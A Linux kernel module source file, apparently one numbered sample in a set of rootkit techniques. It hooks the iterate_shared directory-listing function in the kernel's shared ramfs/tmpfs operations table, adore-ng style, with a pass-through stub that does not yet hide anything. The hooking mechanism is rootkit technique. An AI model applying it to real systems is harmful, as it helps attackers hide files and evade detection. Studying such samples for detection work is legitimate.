// SPDX-License-Identifier: GPL-2.0
/*
 * 5. adore-ng style: swap iterate_shared in the file_operations of ramfs and
 * tmpfs directories (simple_dir_operations) to hide a file.
 */
#include <linux/module.h>
#include <linux/fs.h>
#include "rk_common.h"

static int (*orig)(struct file *, struct dir_context *);
static struct file_operations *fops;

static int rk_iterate(struct file *file, struct dir_context *ctx)
{
	return orig(file, ctx);
}

static int __init rk_init(void)
{
	int (*hook)(struct file *, struct dir_context *) = rk_iterate;

	fops = (struct file_operations *)&simple_dir_operations;
	orig = fops->iterate_shared;
	rk_write(&fops->iterate_shared, &hook, sizeof(hook));
	pr_info("rk_fops: simple_dir_operations.iterate_shared hooked\n");
	return 0;
}

static void __exit rk_exit(void)
{
	rk_write(&fops->iterate_shared, &orig, sizeof(orig));
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
